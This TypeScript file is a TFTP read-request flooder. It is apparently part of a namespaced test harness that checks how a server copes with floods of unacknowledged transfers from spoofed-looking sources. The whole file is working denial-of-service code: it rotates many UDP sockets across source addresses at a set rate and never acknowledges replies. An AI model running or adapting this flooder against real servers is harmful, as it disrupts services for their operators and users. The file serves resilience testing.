/**
 * An attacker's RRQ flood, run inside the client namespace:
 *   node --import tsx flood-client.ts '<json: { server, port, sources, socketsPerSource, perSecond, request }>'
 * Binds `socketsPerSource` UDP sockets on each address of `sources` (addresses the attacker holds on
 * the link, so nothing answers the server with ICMP) and sends the RRQ (`request`, hex) from them in
 * turn at `perSecond`, round after round, until killed. It never acknowledges anything: every
 * transfer it starts is one a forged address would start. Prints `round` after each full round.
 */
import { createSocket, type Socket } from "node:dgram";

const input = JSON.parse(process.argv[2] ?? "{}") as {
  server: string;
  port: number;
  sources: string[];
  socketsPerSource: number;
  perSecond: number;
  request: string;
};
const request = Buffer.from(input.request, "hex");
const sockets: Socket[] = [];
for (const source of input.sources) {
  for (let i = 0; i < input.socketsPerSource; i++) {
    const socket = createSocket("udp4");
    // What the server sends is read and dropped; no ACK ever goes back.
    socket.on("message", () => {});
    await new Promise<void>((resolve) => socket.bind(0, source, resolve));
    sockets.push(socket);
  }
}

let next = 0;
const started = Date.now();
let sent = 0;
// Paced in 10 ms ticks: as many as the rate allows since the start.
setInterval(() => {
  const due = Math.floor(((Date.now() - started) / 1000) * input.perSecond);
  for (; sent < due; sent++) {
    sockets[next]!.send(request, input.port, input.server);
    next = (next + 1) % sockets.length;
    if (next === 0) process.stdout.write("round\n");
  }
}, 10);
